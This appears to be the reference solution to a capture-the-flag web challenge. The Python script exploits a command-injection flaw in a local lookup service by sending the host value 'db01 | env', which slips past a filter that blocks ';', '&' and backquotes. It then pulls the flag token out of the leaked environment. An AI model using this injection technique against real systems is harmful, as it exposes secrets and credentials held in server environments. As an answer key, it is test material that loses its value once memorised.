"""Reference solution for web-cmd-injection: the host name is appended to a
shell command; `;`, `&` and backquotes are refused but a pipe is not. Piping
into `env` prints the lookup tool's environment, which holds the
diagnostics token (the flag)."""
import html
import re
import sys
import urllib.parse
import urllib.request

BASE = "http://127.0.0.1:8080"


def main() -> int:
    host = "db01 | env"
    url = f"{BASE}/lookup?host={urllib.parse.quote(host)}"
    page = html.unescape(urllib.request.urlopen(url, timeout=10).read().decode())
    found = re.search(r"DIAG_TOKEN=(bulwark\{[^}\s<]+\})", page)
    if not found:
        print(f"no token in the lookup output: {page[:500]}", file=sys.stderr)
        return 1
    print(found.group(1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
